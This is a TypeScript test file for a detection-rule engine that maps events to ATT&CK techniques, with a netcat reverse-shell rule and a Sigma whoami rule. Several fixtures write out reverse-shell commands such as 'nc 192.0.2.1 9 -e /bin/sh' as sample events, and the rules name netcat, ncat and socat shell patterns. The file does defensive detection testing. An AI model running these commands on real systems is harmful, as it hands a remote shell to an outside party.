import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { loadAttack } from '../../schemas/attack.ts'
import { builtinSources } from '../../schemas/source-set.ts'
import { ruleContext } from '../language/context.ts'
import { buildRuleSet, type RuleSet } from '../rule-set.ts'
import { backtest, formatBacktest } from './backtest.ts'
import { checkRules, checkToJson, formatCheck } from './check.ts'
import { formatCoverage, ruleCoverage } from './coverage.ts'
import { explain, formatExplanation } from './explain.ts'
import { importReport } from './import-report.ts'
import { lintRules, lints } from './lint.ts'
import { runFile, runLines } from './run.ts'
import { formatSamples, testSamples } from './test-samples.ts'

const context = ruleContext()

const native = `rule_id: test.netcat
rule_version: 1
name: Netcat
description: A shell on a socket.
applies_to: [command]
match:
  program: { shell_commands|startswith: ['nc ', 'ncat '] }
  shell: { command_text|contains: /bin/sh }
  help: { command_text|contains: ' -h' }
  condition: program and shell and not help
emits:
  - { technique_id: T1059, sub_technique_id: T1059.004, tactic: TA0002, confidence: 0.9 }
  - { technique_id: T1095, confidence: 0.5, when: program }
evidence_fields: [command_text]
tests:
  - event: { command_text: 'true; nc 192.0.2.1 9 -e /bin/sh' }
    emits: [T1059.004, T1095]
  - event: { command_text: 'ncat -h /bin/sh' }
    emits: []
`
const sigma = `title: Who am I
id: 5f1abf38-4d2f-4d3e-9f0e-6a3a5f0d5b11
description: d
logsource: { product: windows, category: process_creation }
detection: { s: { Image|endswith: '\\whoami.exe', Missing: null }, condition: s }
tags: [attack.t1033, attack.discovery]
`

function setOf(...texts: readonly string[]): RuleSet {
  return buildRuleSet(
    texts.map((text, n) => ({ path: `${n}.yaml`, text })),
    context,
  )
}

const command = (command_text: string) => ({
  kind: 'command',
  logsource: {},
  fields: context.prepare('command', { command_text }),
})

test('check counts rules, errors and warnings, in text and JSON', () => {
  const broken = native.replace('T1095', 'T9999').replace('test.netcat', 'test.broken')
  const result = checkRules([{ path: 'a.yaml', text: `${native}---\n${broken}` }], context)
  expect([result.files, result.rules, result.errors, result.warnings]).toEqual([1, 1, 1, 0])
  expect(formatCheck(result)).toMatch(
    /^a\.yaml:33:21: unknown-technique: .*\n.*\n.*\n1 rule in 1 file: 1 error, 0 warnings$/,
  )
  expect(JSON.parse(checkToJson(result))).toMatchObject({
    errors: 1,
    diagnostics: [{ code: 'unknown-technique', line: 33 }],
  })
})

test('test runs every sample and names rules that lack one', () => {
  const run = testSamples(
    setOf(native, native.replace('test.netcat', 'x').replace(/tests:.*/s, '')).rules,
    context,
  )
  expect(run).toMatchObject({ passed: 2, failed: 0, untested: ['x'] })
  const [rule] = setOf(native).rules
  if (rule === undefined) throw new Error('no rule')
  const wrong = {
    ...rule,
    samples: rule.samples.map((sample) => ({ ...sample, emits: ['T1033'] })),
  }
  expect(formatSamples(testSamples([wrong], context))).toBe(
    [
      '0.yaml:16: test.netcat: this sample should emit T1033, and emits T1059.004, T1095',
      '0.yaml:18: test.netcat: this sample should emit T1033, and emits nothing',
      'test.netcat: needs a sample that matches and one that does not',
      '0 samples pass, 2 fail',
    ].join('\n'),
  )
})

test('explain shows which part of a rule held and what the event had there', () => {
  const [rule] = setOf(native).rules
  if (rule === undefined) throw new Error('no rule')
  const yes = explain(rule, command('nc 192.0.2.1 9 -e /bin/sh'))
  expect(yes).toMatchObject({
    isMatch: true,
    evidence: { command_text: 'nc 192.0.2.1 9 -e /bin/sh' },
    selections: [
      { name: 'program', node: { isTrue: true } },
      { name: 'shell', node: { isTrue: true } },
      { name: 'help', node: { isTrue: false } },
    ],
  })
  expect(yes.emits.map((emit) => emit.techniqueId)).toEqual(['T1059', 'T1095'])
  const no = formatExplanation(explain(rule, command('ncat -h /bin/sh')))
  expect(no.split('\n')[0]).toMatch(/^test\.netcat 1~\w{8} does not match$/)
  expect(no).toContain('    - not\n      + command_text contains \' -h\'   ← "ncat -h /bin/sh"')
  const other = explain(rule, { kind: 'email', logsource: {}, fields: {} })
  expect([other.meets, other.isMatch, other.emits]).toEqual([false, false, []])
})

test('explain speaks of every kind of leaf', () => {
  const [rule] = setOf(`title: t
id: t
logsource: {product: x}
detection:
  s:
    A|cased: x
    B: 'a*b?'
    C|re|i: x
    D: 7
    E: true
    F|lt: 1
    G|lte: 1
    H|gt: 1
    I|gte: 1
    J|cidr: 10.0.0.0/8
    K|hour: 3
    L: null
    M|exists: true
    N|fieldref: O
  k: [word]
  r: {'|re': z}
  condition: s and k and r and 2 of them
`).rules
  if (rule === undefined) throw new Error('no rule')
  const text = formatExplanation(explain(rule, { kind: 'x', logsource: {}, fields: {} }))
  for (const part of [
    "A equals 'x' (cased)",
    "B is like 'a*b?'",
    'C matches /x/i',
    'D is 7',
    'E is true',
    'F < 1',
    'G <= 1',
    'H > 1',
    'I >= 1',
    'J is in 10.0.0.0/8',
    'the hour of K is 3',
    '+ L is missing or null',
    'M is there',
    'N equals the value of O',
    "any value contains '*word*'",
    'any value matches /z/',
    '2 of',
  ]) {
    expect(text).toContain(part)
  }
})

test('coverage counts techniques that rules can emit', () => {
  const open = native
    .replace('test.netcat', 'open')
    .replace(
      /emits:.*evidence/s,
      'emits:\n  - { technique_from: fields.t, confidence: 0.5 }\nevidence',
    )
    .replace(/tests:.*/s, '')
  const coverage = ruleCoverage(setOf(native, sigma, open).rules, loadAttack())
  expect(coverage.covered).toBe(3)
  expect(coverage.total).toBe(691)
  expect(coverage.openEnded).toEqual(['open'])
  expect(coverage.techniques.map(({ id, confidenceMax }) => [id, confidenceMax])).toEqual([
    ['T1033', 0.5],
    ['T1059.004', 0.9],
    ['T1095', 0.5],
  ])
  expect(coverage.tactics.find(({ id }) => id === 'TA0007')?.covered).toBe(1)
  expect(formatCoverage(coverage)).toMatch(/^ATT&CK 18\.1: rules can emit 3\/691 \(0\.4 %\)/)
})

test('each lint finds what it is for, and nothing in a good rule', () => {
  expect(lintRules(setOf(native).rules)).toEqual([])
  const found = (text: string) => lintRules(setOf(text).rules).map(({ code }) => code)
  const all = new Set([
    ...found(native.replace(/tests:.*/s, '')),
    ...found(native.replace(/evidence_fields.*\n/, '').replace(/description.*\n/, '')),
    ...found(sigma.replace(/tags.*\n/, '')),
    ...found(sigma.replace("Image|endswith: '\\whoami.exe', ", '')),
    ...found(sigma.replace("Image|endswith: '\\whoami.exe'", 'Image|contains: ab')),
    ...found(sigma.replace("Image|endswith: '\\whoami.exe'", "Image|re: '.*whoami'")),
  ])
  expect(lints.map(({ code }) => code).filter((code) => !all.has(code))).toEqual([])
  const twins = lintRules(setOf(native, native.replace('test.netcat', 'twin')).rules)
  expect(twins.map(({ message }) => message)).toEqual([
    '`twin` does exactly what `test.netcat` does',
  ])
})

const records = [
  { kind: 'command', event_id: '1', host: 'h', command_text: 'nc 192.0.2.1 9 -e /bin/sh' },
  { kind: 'command', event_id: '2', host: 'h', command_text: 'ls' },
  { kind: 'command' },
].map((record) => JSON.stringify(record))

test('run counts hits, techniques and refusals over a file, compressed or not', async () => {
  const { revision } = setOf(native, sigma)
  const folder = mkdtempSync(join(tmpdir(), 'ttpstream-run-'))
  const text = `${records.slice(0, 2).join('\n')}\n\nnot json\n[]\n`
  writeFileSync(join(folder, 'a.ndjson'), text)
  writeFileSync(join(folder, 'a.ndjson.gz'), gzipSync(text))
  try {
    const lines: number[] = []
    const onMatch = (_: unknown, __: unknown, line: number) => lines.push(line)
    const plain = await runFile(join(folder, 'a.ndjson'), revision, builtinSources(), { onMatch })
    expect(plain).toMatchObject({
      records: 4,
      events: 2,
      refused: { 'not-json': 2 },
      matched: 1,
      hits: { 'test.netcat': 1 },
      techniques: { 'T1059.004': 1, T1095: 1 },
    })
    expect(lines).toEqual([1])
    expect(await runFile(join(folder, 'a.ndjson.gz'), revision, builtinSources())).toEqual(plain)
    await expect(runFile(join(folder, 'none.gz'), revision, builtinSources())).rejects.toThrow(
      'ENOENT',
    )
  } finally {
    rmSync(folder, { recursive: true })
  }
})

test('an import report says what the rules found, and what they wait for', async () => {
  const linux = sigma.replace('windows', 'linux').replace('5f1abf38', '00000000')
  const untagged = sigma.replace(/tags.*\n/, '').replace('5f1abf38', '11111111')
  const future = sigma.replace('t1033', 't1999').replace('5f1abf38', '22222222')
  const revoked = sigma.replace('t1033', 't1086').replace('5f1abf38', '33333333')
  const broken = sigma.replace('condition: s', 'condition: z').replace('5f1abf38', '44444444')
  const set = setOf(sigma, linux, untagged, future, revoked, broken)
  const event = {
    Event: {
      System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'c' },
      EventData: { Image: 'C:\\whoami.exe' },
    },
  }
  const { observations } = await runLines([JSON.stringify(event)], set.revision, builtinSources())
  expect(importReport(set, observations)).toMatchObject({
    files: 6,
    compiled: 5,
    refusedByCode: { 'unknown-selection': 1 },
    refused: [{ file: '5.yaml', ruleId: expect.stringMatching(/^44444444/) }],
    noTechnique: [expect.stringMatching(/^11111111/)],
    unknownTechnique: [expect.stringMatching(/^22222222/)],
    revokedTechnique: [expect.stringMatching(/^33333333/)],
    logsourceNeverSeen: [expect.stringMatching(/^00000000/)],
    fieldNeverSeen: {
      Missing: [expect.anything(), expect.anything(), expect.anything(), expect.anything()],
    },
  })
})

test('backtest says which events an edit gains and loses, rule by rule', async () => {
  const line = (command_text: string) =>
    JSON.stringify({ kind: 'command', event_id: command_text, host: 'h', command_text })
  const lines = ['nc 1 -e /bin/sh', 'ncat 1 -e /bin/sh', 'ls', 'socat /bin/sh', 'junk'].map(line)
  const edited = native.replace("'nc ', 'ncat '", "'ncat ', 'socat '").replace(/tests:.*/s, '')
  const before = setOf(native, sigma).rules
  const after = setOf(edited, sigma, native.replace('test.netcat', 'test.new')).rules
  const result = await backtest(before, after, [...lines, 'not json'], builtinSources())
  expect(result).toMatchObject({ records: 6, events: 5 })
  expect(result.rules).toEqual([
    {
      ruleId: 'test.netcat',
      change: 'edited',
      before: 2,
      after: 2,
      gained: 1,
      lost: 1,
      gainedLines: [4],
      lostLines: [1],
    },
    {
      ruleId: 'test.new',
      change: 'added',
      before: 0,
      after: 2,
      gained: 2,
      lost: 0,
      gainedLines: [1, 2],
      lostLines: [],
    },
  ])
  expect(result.techniques['T1095']).toEqual({ before: 2, after: 4 })
  expect(formatBacktest(result).split('\n')).toEqual([
    'test.netcat (edited): 2 → 2 events, 1 gained, 1 lost',
    'test.new (added): 0 → 2 events, 2 gained, 0 lost',
    '5 events; 0 rules differ and match the same',
  ])
  const same = await backtest(before, before, lines, builtinSources())
  expect(same.rules).toEqual([])
})
